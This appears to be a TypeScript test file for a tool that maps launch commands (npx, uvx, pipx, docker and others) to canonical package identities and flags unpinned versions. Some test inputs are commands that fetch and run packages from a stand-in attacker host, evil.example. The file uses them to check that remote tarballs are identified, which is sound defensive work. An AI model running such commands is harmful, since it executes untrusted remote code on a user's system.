import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { identifyCommand } from "./command-identity.ts";
import { isUnpinned } from "./package-spec.ts";

describe("the identity of a command line", () => {
  for (const [line, identity] of [
    ["npx @Acme/Server", "npm:@acme/server"],
    ["npx github:acme/server", "npm:github:acme/server"],
    ["npx https://evil.example/x.tgz", "npm:https://evil.example/x.tgz"],
    ["npx -y not!a!name", "npm:not!a!name"],
    ["npx server@file:./build/server", "script:server"],
    ["npx server@https://evil.example/x.tgz", "npm:https://evil.example/x.tgz"],
    ["npx server@acme/fork", "npm:github:acme/fork"],
    ["npx git+ssh://git@github.com/acme/server.git", "npm:git+ssh://github.com/acme/server.git"],
    ["npx C:\\build\\server", "script:server"],
    ["npx --registry https://r.example -- @acme/server", "npm:@acme/server"],
    ["sudo -n npx @acme/server", "npm:@acme/server"],
    ["nohup nice env A=1 npx @acme/server", "npm:@acme/server"],
    ["nerdctl run acme/server:1", "oci:acme/server"],
    ["docker container run acme/server", "oci:acme/server"],
    ["docker run docker.io/library/server", "oci:server"],
    ["docker compose up", "bin:docker"],
    ["pipx run --spec acme-server==1.0 acme", "pypi:acme-server"],
    ["uvx acme@https://evil.example/x.whl", "pypi:https://evil.example/x.whl"],
    ["uvx ./acme/server", "script:server"],
    ["python2.7 server.py", "script:server.py"],
    ["python server.py -m other", "script:server.py"],
    ["node -e process.exit() server.js", "bin:node"],
    ["/opt/My-Tools/acme.cmd --port 1", "bin:acme"],
  ] as const) {
    it(`is ${identity} for ${line}`, () => {
      const [command = "", ...args] = line.split(" ");
      assert.equal(identifyCommand(command, args).identity, identity);
    });
  }

  it("keeps a path with spaces, and splits a command only if it has no arguments", () => {
    assert.equal(identifyCommand("/opt/my tools/acme", []).identity, "bin:acme");
    assert.equal(identifyCommand("npx -y", ["@acme/server"]).identity, "bin:npx -y");
  });
});

describe("the version of a package", () => {
  const commit = "0123456789abcdef0123456789abcdef01234567";
  for (const [type, version, unpinned] of [
    ["npm", "1.2.3", false],
    ["npm", "v1.2.3-beta.1+build", false],
    ["npm", "^1.2.3", true],
    ["npm", "1", true],
    ["npm", "1.x", true],
    ["npm", "1.2.*", true],
    ["npm", "latest", true],
    ["npm", undefined, true],
    ["npm", commit, false],
    ["npm", commit.slice(1), true],
    ["pypi", "1.0rc1", false],
    ["pypi", ">=1.0", true],
    ["pypi", "1.*", true],
    ["oci", "latest", true],
    ["oci", undefined, true],
    ["oci", "1", false],
    ["oci", "sha256:00", false],
    ["binary", undefined, false],
  ] as const) {
    it(`${unpinned ? "can change" : "is exact"} for ${type} ${version}`, () => {
      assert.equal(isUnpinned({ type, ...(version !== undefined && { version }) }), unpinned);
    });
  }
});
